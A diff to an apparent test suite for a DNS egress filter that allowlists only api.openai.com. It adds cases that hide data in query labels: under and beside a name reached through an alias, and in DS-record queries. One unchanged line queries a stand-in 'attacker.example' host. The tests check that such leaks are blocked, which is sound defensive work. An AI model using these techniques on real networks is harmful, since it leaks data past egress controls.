@@ -14,6 +14,7 @@ from table import at_uplink, attack, packed
 
 DNS, OTHER, METADATA = "DNS", "NTP and DHCP", "the metadata service"
 ALLOWED = "api.openai.com"
+DS = 43
 PUBLIC = {4: "8.8.8.8", 6: "2001:4860:4860::8888"}
 
 
@@ -49,6 +50,36 @@ def dns_below_allowed(t):
 @dns("a name of which the allowed one is the beginning", "dns-name-not-allowed")
 def dns_behind_allowed(t):
     return craft.query(ALLOWED + "." + t.label + ".attacker.example")
+
+
+@dns("the data in the question for the keys of a zone, beside one above an allowed name", "dns-name-not-allowed")
+def dns_keys(t):
+    return craft.query(t.label + ".openai.com", DS)
+
+
+def ask_alias(t):
+    """An allowed name whose answer is an alias without an address: from now on edge.cdn.example may be asked for."""
+    s = t.socket()
+    s.sendto(craft.query("alias.lab.example"), (t.resolver, 53))
+    s.recv(4096)
+
+
+@dns("the data as a label before a name that an allowed name's alias leads to", "dns-name-not-allowed")
+def dns_below_alias(t):
+    ask_alias(t)
+    return craft.query(t.label + ".edge.cdn.example")
+
+
+@dns("the data beside such a name", "dns-name-not-allowed")
+def dns_beside_alias(t):
+    ask_alias(t)
+    return craft.query(t.label + ".cdn.example")
+
+
+@dns("the data in the question for the keys of a zone, beside one above such a name", "dns-name-not-allowed")
+def dns_keys_beside_alias(t):
+    ask_alias(t)
+    return craft.query(t.label + ".cdn.example", DS)
 
 
 @dns("an allowed name as one label with dots in it")
